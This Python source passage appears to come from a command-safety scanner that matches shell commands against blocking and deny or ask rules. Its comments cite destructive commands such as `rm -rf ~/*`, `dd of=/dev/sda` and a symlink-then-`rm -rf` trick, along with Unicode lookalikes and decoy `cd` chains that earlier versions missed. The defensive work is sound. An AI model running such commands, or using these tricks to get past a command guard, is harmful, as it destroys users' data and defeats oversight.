        of every word (~2 ms for the 16,000 words of 64 KiB): None when a search finds more
        than a few (_UNPLAIN_MANY words that are no plain name, or more kept words than
        _forms_by_bytes has stand-ins for; then _boring is asked).

        Any text: a word that is not ASCII is no plain name, found by _UNPLAIN like any other (RE2
        reads UTF-8: `ｒｍ`, `－ｒｆ`, `K` are characters outside its class). What RE2 may not see
        as such (a byte of no UTF-8 character) is caught after: once every word _UNPLAIN found is
        taken out, what is left must be ASCII, or _boring is asked."""
        if self._unfoldable is not None and next(self._unfoldable.spans(flat), None) is not None:
            return None  # no fold: _boring says so
        # Each word found is taken out of the lines everywhere, so a word repeated thousands of
        # times (`rm`) costs one search and one replace, not one step per time.
        framed = b"\n" + lines + b"\n"
        kept: set[bytes] = set()
        for finder in (_UNPLAIN, self._names, self._tests, self._subword_lines):
            if finder is self._names and not framed.isascii():
                return None  # a word that is no plain name left where _UNPLAIN did not see it
            while finder is not None:
                hit = next(finder.spans(framed), None)
                if hit is None:
                    break
                start, stop = hit
                first = framed.rfind(b"\n", 0, start) + 1
                last = framed.find(b"\n", stop)
                touched = framed[first : last if last >= 0 else len(framed)].split(b"\n")
                size = len(framed)
                for word in touched:
                    kept.add(word)
                    old = b"\n" + word + b"\n"
                    while _holds(framed, word, old):
                        framed = framed.replace(old, b"\n")
                if len(framed) == size or len(kept) > len(_FLAT_MARKERS):
                    return None  # an empty match, or too many words kept: _boring's way
        # The words left, without empty lines between them (a blank before a word, `; rm`): each
        # line costs plain_touched a copy of the working directory's path.
        while b"\n\n" in framed:
            framed = framed.replace(b"\n\n", b"\n")
        found = view.plain_touched(framed.strip(b"\n"), None, None)
        if found is None:
            return None
        kept |= found
        kept.discard(b"")
        return kept if len(kept) <= len(_FLAT_MARKERS) else None


# The start of a line that is no plain name (_FLAT_PLAIN), up to its first byte a plain name does
# not hold; on RE2, made when first used.
# Case counts (`-i`: a Finder ignores it otherwise): with case ignored RE2 takes `K` (U+212A, the Kelvin
# sign) and `ſ` (U+017F) for `k` and `s`, so a word of them was no match, and not ASCII.
_UNPLAIN = Finder(r"(?m-i)^(?:[^A-Za-z0-9_\n]|[A-Za-z0-9_][A-Za-z0-9_.+\-]*[^A-Za-z0-9_.+\-\n])", lazy=True)
_UNPLAIN_MANY = 256  # words that are no plain name past which _FLAT_PLAIN finds the plain ones


def _unplain(lines: bytes, words: set[bytes]) -> set[bytes]:
    """Those of ``words`` (joined by line breaks in ``lines``; none empty or a line break) that
    are no plain name (_FLAT_PLAIN).

    Most words of a long line are plain (`rm a1; rm a2; ...`): in ASCII text RE2 finds the few
    that are not, where `re` would make every plain one anew (~1 ms at 64 KiB). RE2 reads UTF-8:
    a byte of no UTF-8 character is no character to it, so any other text, or many words that
    are no plain name, go to `re`."""
    if lines.isascii():
        unplain: set[bytes] = set()
        for n, (start, stop) in enumerate(_UNPLAIN.spans(lines)):
            if n >= _UNPLAIN_MANY:
                break
            end = lines.find(b"\n", stop)
            unplain.add(lines[start : end if end >= 0 else len(lines)])
        else:
            return unplain
    return words.difference(_FLAT_PLAIN.findall(lines))


def _lines_of(bodies: Iterable[str]) -> str:
    """One multi-line pattern matching on each line where one of the regexes ``bodies`` may match
    the line alone (as ``search``; a glob's ``match`` is a search that starts at the line's start):
    `\\A`, `\\Z`, `\\z` become the line's ends. A superset (case is ignored, and a match
    may run on into the next lines). Raises RegexError for what RE2 cannot read."""
    out = []
    for body in dict.fromkeys(bodies):
        if _FLAGS_OFF.search(body):
            raise RegexError("a regex that turns multi-line matching off")
        out.append("(?:" + _TEXT_ENDS.sub(lambda m: "^" if m.group() == "\\A" else "$", body) + ")")
    return "(?m)^[^\n]*?(?:" + "|".join(out) + ")"


_TEXT_ENDS = re.compile(r"\\[AZz]")
_FLAGS_OFF = re.compile(r"\(\?[a-zA-Z]*-[a-zA-Z]*m")


def _touched(finder: Finder, lines: bytes) -> set[bytes]:
    """The lines of ``lines`` that a match of ``finder`` touches (and the line before one that
    starts at a line break)."""
    found: set[bytes] = set()
    for start, stop in finder.spans(lines):
        first = lines.rfind(b"\n", 0, start) + 1
        last = lines.find(b"\n", stop)
        found.update(lines[first : last if last >= 0 else len(lines)].split(b"\n"))
    return found


def _flat_directories(text: str) -> tuple[str, ...]:
    """The folders a `cd` or `pushd` of ``text`` names (a bare one: home), and where the relative
    ones lead one after another: `cd ~; rm -rf *` past the size limit is `rm -rf ~/*`. Past
    _FLAT_FOLDERS of them (decoys before the one that matters), the first ones, home and `/`.
    ``text`` is read without quoting (_unquoted)."""
    found: dict[str, None] = {}
    joined = "."
    # Without a `d` neither can be there: one memchr, where `"cd" in text` steps every few characters.
    if "d" not in text or ("cd" not in text and "pushd" not in text):
        return ()
    for match in _FLAT_CD.finditer(text):
        words = match.group(1).split()
        target = next((w for w in words if not w.startswith("-")), "~" if not words else None)
        if target is None:
            # `cd -`, or options past the words read (`cd -P -L -P /`, found by rt6): where it leads
            # is not in the text; home and `/` are read too.
            found.update(dict.fromkeys(("~", "/")))
            continue
        if len(found) >= _FLAT_FOLDERS:
            found.update(dict.fromkeys(("~", "/")))
            break
        found[target] = None
        if not target.startswith(("/", "~")):
            joined = posixpath.normpath(posixpath.join(joined, target))
            found[joined] = None
    found.pop(".", None)
    if found.keys() - {"~", "/"}:
        # The text may make any folder it names a link before its `cd` (`ln -s / zz; cd zz; rm -rf
        # etc`, found by rt6): where it leads is not on disk yet. Home and `/` are read too.
        found.update(dict.fromkeys(("~", "/")))
    return tuple(found)


def _piece_commands(
    piece: bytes, finder: Finder, quiet: Callable[[bytes], bool] | None = None
) -> Iterator[tuple[str, ...]]:
    """The runs of one piece of the flat text between two operators (see _flat_commands); none when ``quiet``
    says its words are those of a program that runs nothing with them (`sudo --help rm -rf /`)."""
    if quiet is not None and quiet(piece):
        return
    size = len(piece)
    end = size - 2 if piece.endswith(_FLAT_SUBSTITUTION) else size  # `$(` ends the words before it
    names: set[bytes] = set()
    extra = 0
    for found, stop in finder.spans(piece):
        start = found + 1 if piece[found : found + 1] in _FLAT_SEPARATORS else found  # past the separator
        if start >= end:
            return
        if stop < size and piece[stop : stop + 1] not in _FLAT_PIECE_ENDS:
            continue  # only the start of a longer word (`rmdir` for `rm`)
        name = piece[start:stop].rsplit(b"/", 1)[-1].lower()
        if name not in names:
            names.add(name)
            words = _FLAT_WORDS_LONG.match(piece, start, end)
        elif extra < _FLAT_PER_SEGMENT:
            extra += 1
            words = _FLAT_WORDS.match(piece, start, end)
        else:
            # Repeats are spent: what is left is the first occurrence of each name not met yet.
            yield from _new_names(piece, start, end, names, finder)
            return
        if words is not None:
            yield _decoded(words.group().split())


def _new_names(piece: bytes, start: int, end: int, names: set[bytes], finder: Finder) -> Iterator[tuple[str, ...]]:
    """The runs from ``start`` on of names not in ``names``, each at its first occurrence (see
    _piece_commands). Word by word: a name starts a word, and whether a word is one depends on
    the word alone (and, for the last word, on a `$(` after it), so each distinct word is asked
    once and the rest is a walk over the words."""
    words = piece[start:end].split()
    if not words:
        return
    # The last word as the finder sees it (with a `$(` after it): one split from the right.
    last = piece[start:].rsplit(None, 1)[-1]
    found: dict[bytes, bytes | None] = {}
    for word in set(words):
        found[word] = _name_of(word, finder)
    tail = _name_of(last, finder)
    if all(name is None or name in names for name in (*found.values(), tail)):
        return  # no new name: nothing to walk to
    final = len(words) - 1
    for i, word in enumerate(words):
        name = tail if i == final and last != word else found[word]
        if name is not None and name not in names:
            names.add(name)
            yield _decoded(words[i : i + _FLAT_LONG])


def _name_of(word: bytes, finder: Finder) -> bytes | None:
    """The command name a word of the flat text is, if it is one (as _piece_commands reads it)."""
    spaced = b" " + word
    hit = next(finder.spans(spaced), None)
    if hit is None or hit[0] != 0:
        return None
    stop = hit[1]
    if stop < len(spaced) and spaced[stop : stop + 1] not in _FLAT_PIECE_ENDS:
        return None
    return spaced[1:stop].rsplit(b"/", 1)[-1].lower()


def _decoded(words: list[bytes]) -> tuple[str, ...]:
    joined = b" ".join(words)
    if joined.isascii() and _STR_ONLY_BLANKS.search(joined) is None:  # str.split() splits the same
        return tuple(joined.decode("ascii").split())
    return tuple(w.decode("utf-8", "surrogateescape") for w in words)


_RELATIVE = frozenset({"relative"})
_ANY_WORD: Final = "\x00"  # in a run's key: a word no hardline matcher of its command tells from another


def _representatives(
    argvs: Iterable[tuple[str, ...]], index: _Index, classify: Any, anywhere: set[str] | None = None
) -> Iterator[tuple[str, ...]]:
    """The runs that judge all of ``argvs``: one per command name and key, where the key
    replaces each word that no hardline matcher of that name can tell from another.

    In the flat scan a run is a Command with no program, code, redirects or wrappers: its
    hardline matchers read the name, the words' dashes (flags, operands, their positions), the
    words' classes and their globs and regexes. When those are all the matchers of the name
    read (no text, option-value or subcommand tests), a word that is not an option, whose
    classes are only `relative` and that no glob or regex of theirs matches, judges as any
    other such word in the same place: `rm -rf a1` ... `rm -rf a8191` are judged once (a
    `NAME=VALUE` word only when its value is such a word too: `dd of=/dev/sda` among thousands
    of `dd of=b` was judged as `dd of=b`, found by adv11). Name
    prefilters (the generic matchers', the engine's) only skip matchers that cannot match, so
    the representative's verdict is each run's. ``anywhere``: when a `cd` moves the runs, the
    words that are plain in every folder it names too (`etc` is plain here, not in `/`).
    """
    plans = index.flat_plans
    plain: dict[tuple[int, str], bool] = {}
    keys: set[tuple[str, ...]] = set()
    named: dict[str, str] = {}
    for argv in argvs:
        name = named.get(argv[0])
        if name is None:
            name = named[argv[0]] = command_name(argv[0])
        if name in plans:
            tests = plans[name]
        else:
            tests = plans[name] = _flat_plan(index, name)
        if tests is None:
            yield argv
            continue
        marker = id(tests)
        key = [name]
        for word in argv[1:]:
            same = plain.get((marker, word))
            if same is None:
                # A `NAME=VALUE` word is an option's value too (`dd of=/dev/sda`): both must be plain.
                parts = (word, word.split("=", 1)[1]) if "=" in word else (word,)
                same = plain[marker, word] = (
                    word[:1] != "-"
                    and (anywhere is None or word in anywhere)
                    and all(classify(p) == _RELATIVE and not any(test(p) for test in tests) for p in parts)
                )
            key.append(_ANY_WORD if same else word)
        folded = tuple(key)
        if folded not in keys:
            keys.add(folded)
            yield argv


# (debt43) The word tests of the hardline matchers a name known only at run time meets (see _unnamed_representatives)
_UNNAMED_PLANS: dict[int, tuple[_Index, tuple[frozenset[str], tuple[Callable[[str], Any], ...], tuple[Any, ...]]]] = {}


def _unnamed_plan(index: _Index) -> tuple[frozenset[str], tuple[Callable[[str], Any], ...], tuple[Any, ...]]:
    """(subcommand words, word tests, text regexes) of the hardline matchers (none testing the name alone) that a
    command whose name is known only at run time meets, made once per index."""
    found = _UNNAMED_PLANS.get(id(index))
    if found is not None and found[0] is index:
        return found[1]
    words: set[str] = set()
    tests: list[Callable[[str], Any]] = []
    texts: list[Any] = []
    for _, pattern, matcher, _ in index.dynamic:
        if pattern.severity != "hardline" or _by_name_alone(matcher):
            continue
        for sub in matcher.subcommands:
            words.update(word.lower() for word in sub)
        if matcher.text is not None:
            texts.append(matcher.text)
        for spec in (matcher.args, matcher.words, *(spec for _, spec in matcher.options)):
            if spec is not None:
                tests += [g.match for g in spec.globs]
                if spec.regex is not None:
                    tests.append(spec.regex.search)
    plan = (frozenset(words), tuple(tests), tuple(texts))
    if len(_UNNAMED_PLANS) >= 64:
        _UNNAMED_PLANS.clear()
    _UNNAMED_PLANS[id(index)] = (index, plan)
    return plan


def _unnamed_representatives(
    argvs: Iterable[tuple[str, ...]], index: _Index, relative: set[str]
) -> Iterator[tuple[str, ...]]:
    """(debt43) The runs whose name is known only at run time that judge all of ``argvs`` (as _representatives
    does for named runs): the name is any (each matcher such a name meets passes any), and a plain relative word
    that is no subcommand word and that no glob or regex of those hardline matchers holds judges as any other in
    the same place; the runs' texts part where a matcher's text regex (kill's `-1`) says otherwise. ``relative``:
    the words whose only class is `relative` (View.classify_plain, one pass for them all)."""
    subwords, tests, texts = _unnamed_plan(index)
    plain: dict[str, bool] = {}
    keys: set[tuple[object, ...]] = set()
    for argv in argvs:
        key: list[object] = []
        for word in argv[1:]:
            same = plain.get(word)
            if same is None:
                parts = (word, word.split("=", 1)[1]) if "=" in word else (word,)
                same = plain[word] = (
                    word[:1] != "-"
                    and word.lower() not in subwords
                    and all(p in relative and not any(test(p) for test in tests) for p in parts)
                )
            key.append(_ANY_WORD if same else word)
        if texts:
            line = " ".join(argv) + "\n"
            key.append(tuple(text.search_text(line) is not None for text in texts))
        folded = tuple(key)
        if folded not in keys:
            keys.add(folded)
            yield argv


def _flat_plan(index: _Index, name: str, every: bool = False) -> tuple[Callable[[str], Any], ...] | None:
    """The word tests (globs, regexes) of the hardline matchers a flat run named ``name`` may
    meet; None when they read more of a word than that (see _representatives). ``every``: of
    every matcher a command named ``name`` may meet, whatever its severity (see _match_plan)."""
    if not name or name in index._sub_names:
        return None
    entries = [
        *index.by_name.get(name, ()),
        *(e for e in index.globbed if any(g.match(name) for g in e[2].name_globs)),
        *index.generic,
        *index.engine,
    ]
    if every:
        entries += index.redirecting
    tests: list[Callable[[str], Any]] = []
    for _, pattern, matcher, _ in entries:
        if (not every and pattern.severity != "hardline") or name in matcher.not_names:
            continue
        if (matcher.names is not None or matcher.name_globs) and not (
            (matcher.names is not None and name in matcher.names) or any(g.match(name) for g in matcher.name_globs)
        ):
            continue  # another command's (the engine's and the generic lists hold every name's)
        if matcher.text is not None or matcher.subcommands:
            return None
        # Option values are words after a flag, or `NAME=VALUE` words (never a plain word).
        for spec in (matcher.args, matcher.words, *(spec for _, spec in matcher.options)):
            if spec is not None:
                if every and spec.position in _JOINED_POSITIONS:
                    return None  # a word read joined to another (`cp gcloud ~/.config`)
                tests += [g.match for g in spec.globs]
                if spec.regex is not None:
                    tests.append(spec.regex.search)
    return tuple(tests)


# `args` positions whose test reads a word joined to another (matchers.ArgSpec.landings).
_JOINED_POSITIONS = frozenset({"into", "inside"})


def _match_plan(index: _Index, name: str) -> tuple[Callable[[str], Any], ...] | None:
    """The word tests (globs, regexes) of every matcher a parsed command named ``name`` may meet
    (_Index.candidates), whatever its severity; None when one reads more of a word than its
    classes and those tests (its text, subcommands, a word joined to another).

    Two such commands (no `cd` before them, a grammar that reads no plain word as options or a
    subcommand: _plain_grammar) that differ only in words that are plain names whose only class is
    `relative` (View.classify_plain: no class glob, no link) and that no test holds for meet each
    matcher alike: the flags, the positions of the words, the classes of each and the other fields
    are the same. Name prefilters (the generic matchers', the engine's) only pass over matchers
    that cannot match, so the first command's matches are the other's."""
    return _flat_plan(index, name, True)


def _plain_grammar(program: Any) -> bool:
    """Whether ``program`` (a Programs entry, or None) reads a plain name after its own name as a
    positional or an option's value only: no subcommands, no dashless first word of option letters
    (`tar xzf`), no leading operands whose value decides how the rest is read (`timeout 5`)."""
    if program is None:
        return True
    grammar = program.grammar
    return not program.subcommands and not grammar.traditional and not grammar.leading


_WORD_CHAR = r"[^\s;&|()<>`]"


def _word_finder(names: Iterable[str], globs: Iterable[str]) -> Finder | None:
    """Where a word whose basename is one of ``names`` or matches one of ``globs`` may start."""
    ordered = sorted(set(names), key=len, reverse=True)
    # The first alternative that matches at a place wins: a glob that runs to the word's end
    # (`mkfs.*`) goes before the names, or `mkfs` would be found in `mkfs.ext4` and passed over
    # as the start of a longer word. Other globs last: they may stop inside a name.
    tailed = sorted(g for g in set(globs) if g.endswith("*"))
    options = [glob_in_word(g, r"[^\s;&|()<>`/]") for g in tailed]
    options += [re.escape(n) + (r"[0-9.]*" if n == "python" else "") for n in ordered]
    options += [glob_in_word(g, r"[^\s;&|()<>`/]") for g in sorted(set(globs) - set(tailed))]
    if not options:
        return None
    body = "|".join(options)
    return Finder(rf"(?:^|[\s;&|()<>`])(?:{_WORD_CHAR}*/)?(?:{body})", lazy=True)  # RE2 built when a scan needs it


_LONG: Final = 1024  # texts longer than this are searched on RE2 (see _LongSearch)
_SHORT = 256  # texts up to this are searched on `re` (see _LongSearch)


class _LongSearch:
    """Whether a text holds a match of a pattern of literal alternatives, on RE2 past _SHORT: linear,
    where `re` tries every alternative at every position. Made when first used. A text up to
    _SHORT characters is searched with `re` (its program is read back from the warm-start file;
    RE2's takes milliseconds to build in each process that judges one command): at most a few
    microseconds a character, under a millisecond for the worst such text."""

    __slots__ = ("_finder", "_pattern")

    def __init__(self, pattern: re.Pattern[str] | None) -> None:
        self._pattern = pattern
        self._finder: Finder | bool | None = None  # False: RE2 cannot run it (then `re` does)

    def found(self, text: str) -> bool:
        pattern = self._pattern
        if pattern is None:
            return False
        if len(text) <= _SHORT:
            return pattern.search(text) is not None
        finder = self._finder
        if finder is None:
            try:
                finder = self._finder = Finder(pattern.pattern)
            except RegexError:
                finder = self._finder = False
        if finder is False:
            return pattern.search(text) is not None
        return next(finder.spans(text.encode("utf-8", "surrogatepass")), None) is not None  # type: ignore[union-attr]


_LONG_SEARCHES: dict[re.Pattern[str], _LongSearch] = {}


def _found_long(pattern: re.Pattern[str], text: str) -> bool:
    """Whether a long ``text`` holds a match of ``pattern`` (literal alternatives: a matcher's
    prefilter, the engine's file names) on RE2: `re` tries each alternative at each position."""
    search = _LONG_SEARCHES.get(pattern)
    if search is None:
        search = _LONG_SEARCHES[pattern] = _LongSearch(pattern)
    return search.found(text)


def _trigger_words(words: Iterable[str]) -> re.Pattern[str] | None:
    """A trigger word as a whole run of _WORDS characters (what `_WORDS.findall` would find)."""
    # Longest first, ties by text: the same pattern in every process (the warm-start file keeps it).
    ordered = sorted(words, key=lambda w: (-len(w), w))
    if not ordered:
        return None
    body = "|".join(re.escape(w) for w in ordered)
    return re.compile(rf"(?:^|[^a-z0-9_.+\-])(?:{body})(?:[^a-z0-9_.+\-]|$)")


def _alternation(texts: Iterable[str]) -> re.Pattern[str] | None:
    ordered = fewest_fragments(texts)
    return re.compile(literal_union(ordered)) if ordered else None


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [v for v in value if isinstance(v, str)]
    return []


def _pieces(commands: list[str], programs: ProgramTable) -> tuple[list[str], list[Piece]]:
    """Each whole command and each of its simple commands, for glob rules."""
    return pieces(commands, programs)


def _rule_hits(rule: Rule, args: Mapping[str, Any], parsed: tuple[list[str], list[Piece]]) -> bool:
    """Whether a deny or ask rule hits the call: every glob hits its argument (commands in any spelling)."""
    lines, found = parsed
    for i, (name, glob) in enumerate(rule.globs):
        source = rule.sources[i] if i < len(rule.sources) else ""
        if any(glob.match(v) for v in _strings(args.get(name))):
            continue
        if name in TYPED_ARGUMENTS and strict_hit(glob, source, lines, found):
            continue
        return False
    return True
